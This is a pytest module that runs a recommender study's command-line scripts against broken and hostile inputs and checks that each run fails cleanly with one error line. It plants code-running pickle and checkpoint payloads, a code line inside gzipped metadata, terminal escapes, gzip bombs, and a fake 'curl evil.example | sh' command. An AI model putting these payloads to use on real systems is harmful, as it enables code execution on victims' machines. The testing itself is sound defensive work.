"""Every script, run through its command line on broken copies of every format it reads, and on
a generated table of hostile data, flags, overrides, outputs, run folders, checkpoints (resumed
and served by recommend.py) and results files.

For each case: the exit code, one ``error:`` line naming the file or flag and the fix, no
traceback, no raw control character or planted command in the output, no marker file from any
payload, every file that existed before unchanged (by content), an address space under
MEMORY_CEILING (a run that tried to allocate more would fail) and no run past HANG_LIMIT. The
formats are the real ones (P5's bundle, MovieLens 100K, our own semantic-ID, split,
checkpoint and results files), built small by tests/synthetic.py.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import pickle
import re
import shutil
import subprocess
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest
import torch

from tests.helpers import (
    HOSTILE_DATA,
    REPO,
    CountingEncoder,
    Payload,
    assert_one_line_error,
    edit_json,
    run_cli,
    run_generator,
    snapshot,
)
from tests.synthetic import write_movielens, write_p5
from utils.data.streams import DECOMPRESSED_ENV
from utils.evaluation.predictions import MANIFEST, named_files
from utils.runtime.io import TEMP_TAG, read_json

# Every run of this module gets this much address space: far below what an unchecked flag or file
# would try to allocate, well above what a refused run needs (the imports take about 2 GiB).
MEMORY_CEILING = 4 << 30
# The decompressed-size cap of gzip inputs in these runs (DECOMPRESSED_ENV): a bomb of 2 MiB.
GZ_CAP = 1 << 20
# A run still going after this many seconds has hung (a 1-epoch run here takes about 5).
HANG_LIMIT = 60

SCRIPTS = (
    "mf_train_eval.py",
    "neural_train_eval.py",
    "tiger_train_eval.py",
    "semantic_id_generator.py",
    "analyze_semantic_ids.py",
)


def run_all(commands: list[tuple[str, ...]]) -> list[subprocess.CompletedProcess]:
    """Run the commands two at a time (the suite's machine has two cores), with gzip inputs
    capped at GZ_CAP decompressed bytes so that a bomb stays small; one that runs past
    HANG_LIMIT is killed and reported as hung (exit -9), so that the others still report."""
    env = {DECOMPRESSED_ENV: str(GZ_CAP)}

    def run(cmd: tuple[str, ...]) -> subprocess.CompletedProcess:
        try:
            return run_cli(*cmd, env=env, memory=MEMORY_CEILING, timeout=HANG_LIMIT)
        except subprocess.TimeoutExpired:
            return subprocess.CompletedProcess(cmd, -9, "", f"hung past {HANG_LIMIT} s\n")

    with ThreadPoolExecutor(2) as pool:
        return list(pool.map(run, commands))


def good_outputs(root: Path) -> Path:
    """Results, a plot and semantic-ID files from an earlier good run; no failure may touch them."""
    out = root / "outputs"
    (out / "plots").mkdir(parents=True)
    (out / "results.json").write_text('{"good": true}\n')
    (out / "plots" / "good.png").write_bytes(b"\x89PNG good")
    (out / "ids").mkdir()
    (out / "ids" / "semantic_ids.json").write_text('{"good": true}\n')
    return out


def script_command(script: str, data: Path, out: Path, *extra: str) -> tuple[str, ...]:
    flags = ["--data-dir", str(data), "--device", "cpu", "--quiet"]
    if script == "semantic_id_generator.py":
        flags += ["--output-dir", str(out / "ids"), "--cache-dir", str(out.parent / "cache")]
    else:
        # one result set per script: scripts run two at a time, and one --out takes one run at once
        results = out / f"{Path(script).stem}.json"
        flags += ["--out", str(results), "--plot-dir", str(out / "plots")]
    if script == "tiger_train_eval.py":
        flags += ["--checkpoint-dir", str(out / "checkpoints")]
    return (script, *flags, *extra)


# ---------------------------------------------------------------- broken data folders


def _truncate_meta(folder: Path, marker: Path) -> None:
    data = (folder / "meta.json.gz").read_bytes()
    (folder / "meta.json.gz").write_bytes(data[: len(data) // 2])


def _meta_payload(folder: Path, marker: Path) -> None:
    with gzip.open(folder / "meta.json.gz", "at") as f:
        f.write(f"__import__('os').system('touch {marker}')\n")


def _non_utf8_sequences(folder: Path, marker: Path) -> None:
    path = folder / "sequential_data.txt"
    path.write_bytes(path.read_bytes().replace(b"\n", b"\n\xff\xfe", 1))


def _datamaps_not_an_object(folder: Path, marker: Path) -> None:
    (folder / "datamaps.json").write_text('["user2id", "item2id"]')


def _rating_pickle_payload(folder: Path, marker: Path) -> None:
    (folder / "rating_splits_augmented.pkl").write_bytes(pickle.dumps(Payload(marker)))


def _cut_timestamp(folder: Path, marker: Path) -> None:
    text = (folder / "u.data").read_text()
    (folder / "u.data").write_text(text[:-4])


# name -> (data set, damage(folder, marker), what the error line must also say)
BREAKS: dict[str, tuple[str, Callable[[Path, Path], None], str]] = {
    "p5 truncated meta.json.gz": ("toys", _truncate_meta, "meta.json.gz"),
    "p5 meta line with code": ("toys", _meta_payload, "meta.json.gz"),
    "p5 non-UTF-8 sequential_data.txt": ("toys", _non_utf8_sequences, "sequential_data.txt"),
    "p5 datamaps.json not an object": ("toys", _datamaps_not_an_object, "datamaps.json"),
    "p5 rating pickle with a payload": ("toys", _rating_pickle_payload, "refused to load"),
    "movielens u.data cut in a timestamp": ("ml-100k", _cut_timestamp, "u.data"),
    **{
        f"{'p5' if layout == 'p5' else 'movielens'} {name}": (
            "toys" if layout == "p5" else "ml-100k",
            lambda folder, marker, damage=damage: damage(folder),
            message,
        )
        for name, (layout, damage, message) in HOSTILE_DATA.items()
    },
}


def _write(kind: str, folder: Path) -> Path:
    if kind == "toys":
        return write_p5(folder, n_users=30, n_items=24, with_ratings=True)
    return write_movielens(folder, n_users=20, n_items=24)


@pytest.mark.parametrize("breakage", sorted(BREAKS))
def test_every_script_refuses_a_broken_data_folder(tmp_path, breakage):
    kind, damage, message = BREAKS[breakage]
    marker, out = tmp_path / "pwned", good_outputs(tmp_path)
    broken = _write(kind, tmp_path / "broken")
    damage(broken, marker)
    prepared = _write(
        kind, tmp_path / "prepared"
    )  # a good folder that a failed prepare must not touch
    before, prepared_before, broken_before = snapshot(out), snapshot(prepared), snapshot(broken)
    commands = [
        (
            "prepare_data.py",
            "--dataset",
            kind,
            "--source",
            str(broken),
            "--data-dir",
            str(prepared),
            "--no-verify",
            "--quiet",
        )
    ]
    commands += [script_command(script, broken, out) for script in SCRIPTS]
    for proc in run_all(commands):
        assert_one_line_error(proc, str(broken), message)  # the user's file, not a staged copy
    assert not marker.exists()
    assert snapshot(out) == before and snapshot(prepared) == prepared_before
    assert snapshot(broken) == broken_before


def test_a_data_dir_link_to_an_empty_folder_is_written_through(tmp_path):
    """--data-dir naming a symbolic link: the files land where it points, the link stays."""
    source = write_movielens(tmp_path / "source", n_users=20, n_items=24)
    (tmp_path / "real").mkdir()
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "real")
    args = ("--dataset", "ml-100k", "--source", str(source), "--no-verify", "--quiet")
    proc = run_cli("prepare_data.py", *args, "--data-dir", str(link), memory=MEMORY_CEILING)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert link.is_symlink() and link.resolve() == (tmp_path / "real").resolve()
    assert snapshot(tmp_path / "real") == snapshot(source)


def test_flag_products_are_refused_and_one_user_data_runs(tmp_path):
    """MF flags each in range whose product would not fit are one error line naming them; a
    MovieLens folder of one user trains and reports (its empty test slices plot no bar)."""
    many = write_movielens(tmp_path / "many", n_users=300, n_items=60)
    one = write_movielens(tmp_path / "one", n_users=1, n_items=24)
    out = good_outputs(tmp_path)
    before = snapshot(out)
    sizes = ("--negatives", "256", "--batch-size", "1048576", "--dim", "1024")
    product = script_command(
        "mf_train_eval.py", many, out, "--models", "mf_id", "--objective", "implicit", *sizes
    )
    tiny = script_command("tiger_train_eval.py", one, out, "--models", "sasrec", "--epochs", "1")
    refused, ran = run_all([product, tiny])
    assert_one_line_error(refused, "--negatives", "--dim 1,024", "GiB", "8 GiB ceiling")
    assert ran.returncode == 0 and "Traceback" not in ran.stderr, ran.stderr
    assert json.loads((out / "tiger_train_eval.json").read_text())["models"]["sasrec"]["test"]
    after = snapshot(out)
    assert {k: after[k] for k in before} == before


# ---------------------------------------------------------------- our own outputs


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> Path:
    """A P5 folder with semantic IDs (fake encoder), cached splits and cached embeddings."""
    from src.semantic_ids import generator as gen
    from utils.data.load import load_dataset
    from utils.data.splits import get_split

    root = tmp_path_factory.mktemp("generated")
    data = write_p5(root / "p5", n_users=30, n_items=40)
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(gen, "load_sentence_encoder", CountingEncoder().load)
        assert run_generator(data, root / "cache") == 0
    ds = load_dataset(data)
    for kind in ("temporal", "leave_one_out"):
        get_split(ds, kind, cache_dir=data / "splits")
    return data


def _copy(generated: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(generated, tmp_path / "data"))


def _check(
    tmp_path: Path, commands: list[tuple[str, ...]], *fragments: str, marker: Path | None = None
) -> None:
    out = tmp_path / "outputs"
    before = snapshot(out)
    for proc in run_all(commands):
        assert_one_line_error(proc, *fragments)
    assert snapshot(out) == before
    assert marker is None or not marker.exists()


def test_truncated_semantic_ids_are_refused_by_every_reader(generated, tmp_path):
    data, out = _copy(generated, tmp_path), good_outputs(tmp_path)
    ids = data / "semantic_ids.json"
    ids.write_bytes(ids.read_bytes()[:300])
    commands = [
        script_command("mf_train_eval.py", data, out, "--models", "mf_semantic"),
        script_command("neural_train_eval.py", data, out, "--modes", "semantic"),
        script_command("tiger_train_eval.py", data, out, "--models", "tiger"),
        script_command("analyze_semantic_ids.py", data, out),
        script_command(
            "semantic_id_generator.py",
            data,
            out,
            "--output-dir",
            str(data),
            "--encode-texts",
            str(tmp_path / "new.txt"),
        ),
    ]
    (tmp_path / "new.txt").write_text("a new lipstick\n")
    _check(
        tmp_path,
        commands,
        "semantic_ids.json",
        "invalid JSON",
        "semantic_id_generator.py --data-dir",
    )


def test_mixed_or_damaged_generator_files_are_refused(generated, tmp_path):
    data, out = _copy(generated, tmp_path), good_outputs(tmp_path)
    q = np.load(data / "codebooks.npz")
    np.savez(
        data / "codebooks.npz", **{k: q[k] + 1.0 for k in q.files}
    )  # codebooks of "another run"
    analyze = [script_command("analyze_semantic_ids.py", data, out)]
    _check(tmp_path, analyze, "codebooks.npz", "another generator run")
    shutil.copy(generated / "codebooks.npz", data)
    (data / "semantic_id_stats.json").write_bytes(b'{"usage": "\xff"}')
    _check(tmp_path, analyze, "semantic_id_stats.json", "UTF-8")


def test_damaged_split_caches_are_refused(generated, tmp_path):
    data, out = _copy(generated, tmp_path), good_outputs(tmp_path)
    for cache in (data / "splits").glob("*.npz"):
        cache.write_bytes(cache.read_bytes()[:200])
    commands = [
        script_command(s, data, out, *extra)
        for s, extra in (
            ("mf_train_eval.py", ("--models", "bias")),
            ("neural_train_eval.py", ("--modes", "baseline")),
            ("tiger_train_eval.py", ("--models", "sasrec", "--protocol", "cold")),
        )
    ]
    _check(tmp_path, commands, "cached split is damaged", "delete it")


def test_a_planted_checkpoint_never_runs(generated, tmp_path):
    data, out = _copy(generated, tmp_path), good_outputs(tmp_path)
    marker = tmp_path / "pwned"
    (out / "checkpoints").mkdir()
    torch.save(
        {"model": {}, "optimizer": {}, "epoch": 0, "payload": Payload(marker)},
        out / "checkpoints" / f"tiger-sasrec-{data.name}-quick-paper-seed0.pt",
    )
    command = script_command("tiger_train_eval.py", data, out, "--models", "sasrec", "--resume")
    _check(tmp_path, [command], "refused to load", "run without --resume", marker=marker)


def test_a_truncated_results_file_is_refused_by_the_summary(tmp_path):
    results = tmp_path / "outputs"
    results.mkdir()
    (results / "tiger_results.json").write_text('{"dataset": "beauty", "models": {"sasrec": {"te')
    command = ("summarize_results.py", "--results-dir", str(results))
    _check(tmp_path, [command], "tiger_results.json:1: invalid JSON")


# ---------------------------------------------------------------- the generated table

# Each case, on its own copy of a generated P5 folder (semantic IDs, cached splits) and of the
# good outputs: (script, extra flags, exit code, fragments of the error line). In the flags,
# DATA, OUT and NEW stand for the data copy, the outputs folder and a file of new item texts.
Case = tuple[str, tuple[str, ...], int, tuple[str, ...]]

ABSURD_FLAGS: dict[str, Case] = {
    "mf --dim 1e9": ("mf_train_eval.py", ("--dim", "1e9"), 2, ("--dim", "[1, 1024]")),
    "mf --negatives 10^6": (
        "mf_train_eval.py", ("--negatives", "1000000"), 2, ("--negatives", "[1, 256]")),
    "mf --ks 10^9": ("mf_train_eval.py", ("--ks", "10", "1000000000"), 2, ("--ks", "[1, 1000]")),
    "mf --lr nan": ("mf_train_eval.py", ("--lr", "nan"), 2, ("--lr", "finite")),
    "neural --lr 1e300": ("neural_train_eval.py", ("--lr", "1e300"), 2, ("--lr", "(0, 10]")),
    "neural --seeds 2^32": (
        "neural_train_eval.py", ("--seeds", "0", str(2**32)), 2, ("--seeds", "4294967295")),
    "neural --cross-buckets 2^40": (
        "neural_train_eval.py", ("--cross-buckets", str(2**40)), 2, ("--cross-buckets", "4194304")),
    "tiger --beam 10^9": ("tiger_train_eval.py", ("--beam", "1000000000"), 2, ("--beam", "1000]")),
    "tiger --seed 2^40": ("tiger_train_eval.py", ("--seed", str(2**40)), 2, ("--seed", "32-bit")),
    "generator --codebook-size 10^12": (
        "semantic_id_generator.py", ("--codebook-size", str(10**12)), 2,
        ("--codebook-size", "65536")),
    "generator --rqvae-lr nan": (
        "semantic_id_generator.py", ("--rqvae-lr", "nan"), 2, ("--rqvae-lr", "finite")),
    "mf --objective explicit without ratings": (
        "mf_train_eval.py", ("--objective", "explicit", "--models", "mf_id"), 1,
        ("--objective explicit", "no star ratings", "--objective implicit")),
    "tiger --set sizes whose product is too large": (
        "tiger_train_eval.py",
        ("--models", "sasrec", "--set", "train.sasrec.batch_size=1048576", "sasrec.max_items=1000"),
        1, ("train.sasrec.batch_size 1,048,576 x sasrec.max_items 1,000", "GiB", "8 GiB ceiling")),
    "analyze --shuffles 10^9": (
        "analyze_semantic_ids.py", ("--shuffles", "1000000000"), 2, ("--shuffles", "[1, 1000]")),
}  # fmt: skip

OUTPUTS_ONTO_INPUTS: dict[str, Case] = {
    "mf --out datamaps.json": (
        "mf_train_eval.py", ("--out", "DATA/datamaps.json"), 1, ("--out", "this run's input")),
    "neural --out sequential_data.txt": (
        "neural_train_eval.py", ("--out", "DATA/sequential_data.txt"), 1, ("--out", "input")),
    "tiger --out semantic_ids.json": (
        "tiger_train_eval.py", ("--models", "tiger", "--out", "DATA/semantic_ids.json"), 1,
        ("--out", "this run's input")),
    "analyze --out semantic_id_stats.json": (
        "analyze_semantic_ids.py", ("--out", "DATA/semantic_id_stats.json"), 1, ("--out", "input")),
    "encode --out semantic_ids.json": (
        "semantic_id_generator.py",
        ("--output-dir", "DATA", "--encode-texts", "NEW", "--out", "DATA/semantic_ids.json"), 1,
        ("--out", "this run's input", "choose another path")),
    "encode --out its own texts": (
        "semantic_id_generator.py",
        ("--output-dir", "DATA", "--encode-texts", "NEW", "--out", "NEW"), 1,
        ("--out", "this run's input")),
    "mf --out the data folder": ("mf_train_eval.py", ("--out", "DATA"), 1, ("--out", "input")),
    "mf --seeds repeated": ("mf_train_eval.py", ("--seeds", "1", "1"), 1, ("--seeds", "distinct")),
}  # fmt: skip

IDS_READERS: dict[str, tuple[str, ...]] = {
    "mf_train_eval.py": ("--models", "mf_semantic"),
    "neural_train_eval.py": ("--modes", "semantic"),
    "tiger_train_eval.py": ("--models", "tiger"),
    "analyze_semantic_ids.py": (),
    "semantic_id_generator.py": ("--output-dir", "DATA", "--encode-texts", "NEW"),
}
IDS_EDITS = {
    "a null code": (lambda d: d["items"].update({next(iter(d["items"])): [None, 0, 0, 0]}),
                    "integer codes per item"),
    "a codebook of 10^12": (lambda d: d.update(codebook_sizes=[10**12, 4, 4]), "[1, 65536]"),
}  # fmt: skip
HAND_EDITED_IDS: dict[str, Case] = {
    f"{script} on semantic_ids.json with {edit}": (
        script, flags, 1, ("semantic_ids.json", message, "semantic_id_generator.py --data-dir"))
    for script, flags in IDS_READERS.items()
    for edit, (_, message) in IDS_EDITS.items()
}  # fmt: skip

CKPT = "OUT/checkpoints/tiger-sasrec-DATANAME-quick-paper-seed0.pt"
RESUME = ("--models", "sasrec", "--epochs", "1", "--resume")
FOREIGN_CHECKPOINTS: dict[str, Case] = {
    "a checkpoint of other data": (
        "tiger_train_eval.py", RESUME, 1, ("checkpoints", "trained on something else",
                                           "data_checksum", "run without --resume")),
    "a checkpoint that records nothing": (
        "tiger_train_eval.py", RESUME, 1, ("checkpoints", "records no data checksum")),
    "a checkpoint with a payload": (
        "tiger_train_eval.py", RESUME, 1, ("checkpoints", "refused to load")),
    "a truncated checkpoint": (
        "tiger_train_eval.py", RESUME, 1, ("checkpoints", "not a readable checkpoint")),
}  # fmt: skip


def _plant_checkpoint(case: str, path: Path, marker: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    state = {"model": {}, "optimizer": {}, "epoch": 0}
    if case == "a truncated checkpoint":
        path.write_bytes(b"PK\x03\x04 cut")
        return
    if case == "a checkpoint of other data":
        state["identity"] = {"data_checksum": "0" * 64}
    if case == "a checkpoint with a payload":
        state["payload"] = Payload(marker)
    torch.save(state, path)


RESULTS_FILES: dict[str, Case] = {
    "summary of a truncated results file": (
        "summarize_results.py", (), 1, ("tiger_results.json:1: invalid JSON",)),
    "summary of a results file nested deeply": (
        "summarize_results.py", (), 1, ("tiger_results.json", "nested too deeply")),
    "summary of models as a list": (
        "summarize_results.py", (), 1, ("tiger_results.json", "expected layout")),
    "verify of models as a list": (
        "summarize_results.py", ("--verify",), 1,
        ("FAIL", "tiger_results.json", "expected layout")),
    "verify of a folder with nothing": (
        "summarize_results.py", ("--verify",), 2, ("FAIL", "nothing was verified")),
}  # fmt: skip


def _results_file(case: str, folder: Path) -> None:
    from tests.synthetic import tiger_result

    path = folder / "tiger_results.json"
    if case.endswith("truncated results file"):
        path.write_text('{"dataset": "beauty", "models": {"sasrec": {"te')
    elif case.endswith("nested deeply"):
        path.write_text("[" * 10**6 + "]" * 10**6)
    elif case.endswith("models as a list"):
        path.write_text(json.dumps({**tiger_result(), "models": []}))


# Your own catalogue (prepare_data.py --dataset custom): CUSTOM stands for the case's folder of
# input files (written by _custom_inputs), PREPARED for a target folder that must not appear.
CUSTOM_INPUTS: dict[str, tuple[str, str, tuple[str, ...], tuple[str, ...]]] = {
    # case: (interactions file, items file, extra flags, fragments of the error line)
    "a JSONL items line that is not an object": (
        "inter.csv", "items_list_line.jsonl", (), ("items_list_line.jsonl:3", "not an object")),
    "a JSONL line of 2,000 fields": (
        "inter_wide.jsonl", "items.csv", (), ("inter_wide.jsonl:1", "2,000 fields", "1,000")),
    "a header of 1,000,000 columns": (
        "inter_million.csv", "items.csv", (), ("inter_million.csv", "header", "1,000 columns")),
    "a header of 5,000 columns": (
        "inter_5000.csv", "items.csv", (), ("inter_5000.csv", "5,002 columns", "1,000")),
    "UTF-16 interactions with UTF-8 items": (
        "inter_utf16.csv", "items.csv", ("--encoding", "utf-16"),
        ("items.csv", "not utf-16 text", "--encoding")),
    "interactions .csv.gz over the cap": (
        "inter_bomb.csv.gz", "items.csv", (), ("inter_bomb.csv.gz", "decompresses", f"{GZ_CAP:,}")),
    "items .jsonl.gz over the cap": (
        "inter.csv", "items_bomb.jsonl.gz", (), ("items_bomb.jsonl.gz", "decompresses", "cap")),
    "a CSV timestamp of 1e300": (
        "inter_1e300.csv", "items.csv", (), ("inter_1e300.csv", "timestamp", "not a plausible")),
    "a JSONL timestamp of 1e300": (
        "inter_1e300.jsonl", "items.csv", (), ("inter_1e300.jsonl", "not a plausible time")),
}  # fmt: skip
CUSTOM_DATA: dict[str, Case] = {
    f"custom: {case}": (
        "prepare_data.py",
        ("--dataset", "custom", "--interactions", f"CUSTOM/{inter}", "--items", f"CUSTOM/{items}",
         "--data-dir", "PREPARED", "--k-core", "1", *flags), 1, fragments)
    for case, (inter, items, flags, fragments) in CUSTOM_INPUTS.items()
}  # fmt: skip
# A flag's value, so argparse's exit code (on 1489060: a LookupError traceback).
CUSTOM_DATA["custom: --encoding of no known codec"] = (
    "prepare_data.py",
    ("--dataset", "custom", "--interactions", "CUSTOM/inter.csv", "--items", "CUSTOM/items.csv",
     "--data-dir", "PREPARED", "--encoding", "no-such-codec"), 2,
    ("--encoding", "unknown text encoding 'no-such-codec'"))  # fmt: skip


def _custom_inputs(folder: Path) -> None:
    """Every input file of CUSTOM_INPUTS: a good pair and each damaged one."""
    folder.mkdir()
    rows = [(u, i, 1000 + 10 * u + i) for u in range(3) for i in range(4)]
    csv = "user_id,item_id,timestamp\n" + "".join(f"{u},{i},{t}\n" for u, i, t in rows)
    records = [{"user_id": u, "item_id": i, "timestamp": t} for u, i, t in rows]
    items = [{"item_id": i, "title": f"item {i}"} for i in range(4)]
    lines = {
        "inter_wide.jsonl": [{**records[0], **{f"c{k}": k for k in range(1997)}}],
        "items_list_line.jsonl": [*items[:2], [1, 2], *items[2:]],
        "inter_1e300.jsonl": [{**records[0], "timestamp": 1e300}, *records[1:]],
    }
    for name, values in lines.items():
        (folder / name).write_text("".join(json.dumps(v) + "\n" for v in values))
    texts = {
        "inter.csv": csv,
        "items.csv": "item_id,title\n" + "".join(f"{i},item {i}\n" for i in range(4)),
        "inter_million.csv": "user_id,item_id," + ",".join(f"c{k}" for k in range(10**6)) + "\n",
        "inter_5000.csv": "user_id,item_id," + ",".join(f"c{k}" for k in range(5000)) + "\n",
        "inter_1e300.csv": csv.replace(",1000\n", ",1e300\n"),
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    (folder / "inter_utf16.csv").write_bytes(csv.encode("utf-16-le"))  # no byte-order mark
    bomb = "\n".join(csv.splitlines()[1:]) + "\n"
    with gzip.open(folder / "inter_bomb.csv.gz", "wt") as f:
        f.write(csv + bomb * (2 * GZ_CAP // len(bomb)))
    with gzip.open(folder / "items_bomb.jsonl.gz", "wt") as f:
        f.write(json.dumps({"item_id": 0, "title": "x" * 2 * GZ_CAP}) + "\n")


# Round 3 (issue 32): the surfaces added after round 2, in the groups overrides, recommend,
# preparation, resumes and run folders. Every case of them was seen to fail on 1489060 (the commit
# the cases were found on), this file run there. ROOT stands for the case's own folder,
# where _round3_files writes what the group's cases name.
# Overrides: --set / --config values reach the same bounded types as the flags. On 1489060: a
# traceback each (MemoryError, ZeroDivisionError, invalid dropout or learning rate), exit 0 with an
# untrained model for epochs=0, and the FIFO hung past HANG_LIMIT.
SASREC = ("--models", "sasrec", "--epochs", "1")
OVERRIDE_CASES: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    # case: (flags after SASREC, fragments of the error line)
    "sasrec.n_layers=10^6": (
        ("--set", "sasrec.n_layers=1000000"), ("sasrec.n_layers", "[1, 48]", "memory")),
    "sasrec.n_negatives=10^9": (
        ("--set", "sasrec.n_negatives=1000000000"), ("sasrec.n_negatives", "[1, 65536]")),
    "sasrec.max_items=10^9": (
        ("--set", "sasrec.max_items=1000000000"), ("sasrec.max_items", "[1, 1000]")),
    "train.sasrec.lr=-1": (("--set", "train.sasrec.lr=-1"), ("train.sasrec.lr", "(0, 10]")),
    "sasrec.dropout=-1": (("--set", "sasrec.dropout=-1"), ("sasrec.dropout", "[0, 1)")),
    "sasrec.dropout=5": (("--set", "sasrec.dropout=5"), ("sasrec.dropout", "[0, 1)")),
    "sasrec.n_heads=0": (("--set", "sasrec.n_heads=0"), ("sasrec.n_heads", "[1, 64]")),
    "train.sasrec.batch_size=0": (
        ("--set", "train.sasrec.batch_size=0"), ("train.sasrec.batch_size", "[1, 1048576]")),
    "eval_batch=0": (("--set", "eval_batch=0"), ("eval_batch", "[1, 1048576]")),
    "train.sasrec.epochs=0": (
        ("--set", "train.sasrec.epochs=0"), ("train.sasrec.epochs", "[1, 1000]")),
    "--config with a NaN literal": (("--config", "ROOT/nan.json"), ("sasrec.dropout", "finite")),
    "--config /dev/zero": (("--config", "/dev/zero"), ("/dev/zero", "not a regular file")),
    "--config a FIFO": (("--config", "ROOT/fifo.json"), ("fifo.json", "not a regular file")),
}  # fmt: skip
OVERRIDES: dict[str, Case] = {
    case: ("tiger_train_eval.py", (*SASREC, *flags), 1, fragments)
    for case, (flags, fragments) in OVERRIDE_CASES.items()
}

# recommend.py on planted and hostile inputs: ROOT/*.pt are the `trained` checkpoints as planted
# or copied, ROOT/ml a copy of the MovieLens folder whose titles carry ESCAPES; the success case
# (exit 0) has its fragments in stdout. On 1489060: the planted command printed as the fix, raw
# escapes in the table, tracebacks (allocation, RecursionError), the FIFO hung past HANG_LIMIT.
HISTORY = ("--history", "B000000001")
ESCAPES = "\x1b[2J\x1b]0;owned\x07"
RECOMMEND: dict[str, Case] = {
    "a foreign checkpoint whose spec.command is planted": (
        "recommend.py", ("--checkpoint", "ROOT/planted.pt", "--data-dir", "DATA", *HISTORY), 1,
        ("planted.pt", "another size or layout", "re-create it with the trainer that wrote it")),
    "titles with terminal escapes": (
        "recommend.py", ("--checkpoint", "ROOT/mf.pt", "--data-dir", "ROOT/ml", "--user", "3"), 0,
        ("\\x1b[2J\\x1b]0;owned\\x07Movie",)),
    "a spec claiming d_model 10^7": (
        "recommend.py", ("--checkpoint", "ROOT/huge.pt", "--data-dir", "DATA", *HISTORY), 1,
        ("huge.pt", "d_model must be an integer in [1, 1024]")),
    "a FIFO checkpoint": (
        "recommend.py", ("--checkpoint", "ROOT/fifo.pt", "--data-dir", "DATA", *HISTORY), 1,
        ("fifo.pt", "not a regular file")),
    "--new-items nested 100,000 levels deep": (
        "recommend.py", ("--data-dir", "DATA", "--new-items", "ROOT/deep.jsonl"), 1,
        ("deep.jsonl, line 1", "nested too deeply")),
}  # fmt: skip

# Preparing and extending a catalogue (the exact-ID case is test_big_integer_ids_stay_apart). On
# 1489060: MovieLens placed beside the Beauty files (exit 0), and items.csv read as texts, its
# header an item, failing only at the embedding width (this table's IDs come from a fake encoder;
# with the real one the run succeeded) after writing an embedding cache.
PREPARATION: dict[str, Case] = {
    "movielens into a folder holding the beauty files": (
        "prepare_data.py", ("--dataset", "ml-100k", "--source", "ROOT/ml-source", "--data-dir",
                            "DATA", "--no-verify"), 1,
        ("--data-dir", "holds another data set's files", "datamaps.json", "nothing was changed")),
    "--encode-texts items.csv": (
        "semantic_id_generator.py", ("--output-dir", "DATA", "--encode-texts", "ROOT/items.csv"), 1,
        ("items.csv", ".jsonl", ".txt", "its header as an item")),
}  # fmt: skip

# A resume whose checkpoint is this run's own but for its epoch. On 1489060: five extra epochs
# trained, exit 0, the checkpoint overwritten.
RESUMES: dict[str, Case] = {
    "a checkpoint of this run at epoch -5": (
        "tiger_train_eval.py", RESUME, 1, ("checkpoints", "epoch -5", "run without --resume")),
}  # fmt: skip

# Outputs onto the data folder, and run folders in the study's results/ and plots/ through a
# symlink (ROOT/link, ROOT/plots-link): a run-folder case runs without --out and --plot-dir, so the
# run folder takes every output. On 1489060: all three exit 0; the MF results replaced the data
# folder's semantic_ids.json, the others wrote into the study's results/ and plots/.
RUN_FOLDERS: dict[str, Case] = {
    "mf --out semantic_ids.json it does not read": (
        "mf_train_eval.py", ("--models", "mf_id", "--epochs", "1", "--out",
                             "DATA/semantic_ids.json"), 1, ("--out", "semantic_ids.json")),
    "--run-dir a symlink to results/": (
        "mf_train_eval.py", ("--models", "bias", "--epochs", "1", "--run-dir", "ROOT/link"), 1,
        ("--run-dir", "link", "is or lies inside results")),
    "--run-dir inside a symlink to plots/": (
        "tiger_train_eval.py", (*SASREC, "--run-dir", "ROOT/plots-link/mine"), 1,
        ("--run-dir", "is or lies inside plots")),
}  # fmt: skip


@pytest.fixture(scope="module")
def trained(generated, tmp_path_factory) -> dict[str, Path]:
    """1-epoch checkpoints: SASRec on a copy of the generated data named as each case's copy is
    (so a case's resume finds it), MF on a MovieLens folder whose titles carry ESCAPES."""
    root = tmp_path_factory.mktemp("trained")
    data = Path(shutil.copytree(generated, root / "data"))
    movies = write_movielens(root / "ml", n_users=20, n_items=24)
    titles = movies / "u.item"
    titles.write_bytes(titles.read_bytes().replace(b"Caf\xe9 ", ESCAPES.encode("latin-1")))
    out, mf = root / "outputs", ("--models", "mf_id", "--epochs", "1")
    runs = [
        script_command("tiger_train_eval.py", data, out, *SASREC),
        (*script_command("mf_train_eval.py", movies, out, *mf), "--checkpoint-dir", str(out)),
    ]
    for proc in run_all(runs):
        assert proc.returncode == 0, proc.stderr
    ckpt = CKPT.replace("OUT", str(out)).replace("DATANAME", data.name)
    return {"sasrec": Path(ckpt), "mf": next(out.glob("mf-mf_id-*.pt")), "ml": movies}


def _planted(trained: dict[str, Path], path: Path, edit: Callable[[dict], None]) -> None:
    """The trained SASRec checkpoint, edited as a planted or damaged copy would be."""
    from utils.runtime.checkpoints import load_checkpoint, save_checkpoint

    state = load_checkpoint(trained["sasrec"])
    edit(state)
    path.parent.mkdir(parents=True, exist_ok=True)
    save_checkpoint(path, state)


def _spec_config(**config: int) -> Callable[[dict], None]:
    return lambda state: state["spec"]["config"].update(config)


def _planted_command(state: dict) -> None:
    _spec_config(d_model=64)(state)
    state["spec"]["command"] = f"curl evil.example | sh {ESCAPES}"


def _round3_files(group: str, root: Path, out: Path, trained: dict[str, Path] | None) -> None:
    """The files a round-3 group's cases name: configs, planted checkpoints, FIFOs, links."""
    if group == "overrides":
        (root / "nan.json").write_text('{"sasrec": {"dropout": NaN}}')
        os.mkfifo(root / "fifo.json")  # reading it would block forever
    elif group == "recommend":
        assert trained is not None
        _planted(trained, root / "planted.pt", _planted_command)
        _planted(trained, root / "huge.pt", _spec_config(d_model=10**7))  # asked for 67 GB
        os.mkfifo(root / "fifo.pt")
        shutil.copy(trained["mf"], root / "mf.pt")
        shutil.copytree(trained["ml"], root / "ml")
        (root / "deep.jsonl").write_text("[" * 10**5 + "]" * 10**5 + "\n")
    elif group == "preparation":
        write_movielens(root / "ml-source", n_users=20, n_items=24)
        (root / "items.csv").write_text("item_id,title\nnew-a,a new lipstick\n")
    elif group == "resumes":
        assert trained is not None
        path = Path(CKPT.replace("OUT", str(out)).replace("DATANAME", "data"))
        _planted(trained, path, lambda state: state.update(epoch=-5))
    elif group == "run folders":
